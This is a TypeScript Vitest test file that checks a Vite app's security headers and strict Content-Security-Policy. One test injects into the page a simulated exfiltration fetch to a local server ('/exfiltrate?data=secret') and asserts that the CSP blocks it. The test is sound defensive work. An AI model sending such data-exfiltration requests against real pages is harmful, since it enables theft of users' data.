// Security headers and the Content-Security-Policy: `vite preview` and the plain static server
// send the strict CSP from index.html (the same text as its meta element), no referrer and
// nosniff; in the page, a fetch injected to another origin is blocked by the CSP (a
// securitypolicyviolation on connect-src) and never reaches that server.

import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { preview, type PreviewServer } from 'vite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { strictCsp } from '../../build/csp.ts';
import { page, ROOT, server, useApp } from './fixture.ts';

let vitePreview: PreviewServer;

useApp();
beforeAll(async () => {
  vitePreview = await preview({ root: ROOT, configFile: `${ROOT}vite.config.ts`, logLevel: 'silent', preview: { host: '127.0.0.1', port: 41730 + Math.floor(Math.random() * 1000), strictPort: false } });
});
afterAll(async () => {
  await vitePreview?.close();
});

describe('security headers and CSP', () => {
  it('vite preview and the static server send the strict CSP, no referrer and nosniff', async () => {
    const csp = strictCsp();
    expect(csp).toMatch(/default-src 'self'/);
    expect(csp).toMatch(/connect-src 'self' blob: data:/);
    expect(csp).not.toMatch(/script-src[^;]*'unsafe-(inline|eval)'/);
    const previewUrl = vitePreview.resolvedUrls?.local[0];
    expect(previewUrl).toBeTruthy();
    for (const url of [previewUrl!, server.url]) {
      const res = await fetch(url);
      expect(res.status, url).toBe(200);
      expect(res.headers.get('content-security-policy'), url).toBe(csp);
      expect(res.headers.get('referrer-policy'), url).toBe('no-referrer');
      expect(res.headers.get('x-content-type-options'), url).toBe('nosniff');
      const html = await res.text();
      expect(html, url).toContain(`<meta http-equiv="Content-Security-Policy" content="${csp}"`);
    }
  });

  it('blocks a page-injected fetch to another origin', async () => {
    let hits = 0;
    const other = createServer((_, res) => {
      hits++;
      res.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end('leaked');
    });
    await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve));
    const target = `http://127.0.0.1:${(other.address() as AddressInfo).port}/exfiltrate?data=secret`;
    try {
      await page.goto(server.url);
      const result = await page.evaluate(async (url) => {
        const violations: { directive: string; blocked: string }[] = [];
        document.addEventListener('securitypolicyviolation', (e) => violations.push({ directive: e.effectiveDirective, blocked: e.blockedURI }));
        let outcome: string;
        try {
          const res = await fetch(url, { mode: 'cors' });
          outcome = `fetched: ${res.status} ${await res.text()}`;
        } catch (err) {
          outcome = `blocked: ${(err as Error).name}`;
        }
        await new Promise((r) => setTimeout(r, 200));
        return { outcome, violations };
      }, target);
      expect(result.outcome).toBe('blocked: TypeError');
      expect(result.violations).toContainEqual({ directive: 'connect-src', blocked: expect.stringContaining(`http://127.0.0.1:${(other.address() as AddressInfo).port}`) });
      expect(hits).toBe(0);
    } finally {
      other.closeAllConnections();
      await new Promise<void>((resolve) => other.close(() => resolve()));
    }
  });
});
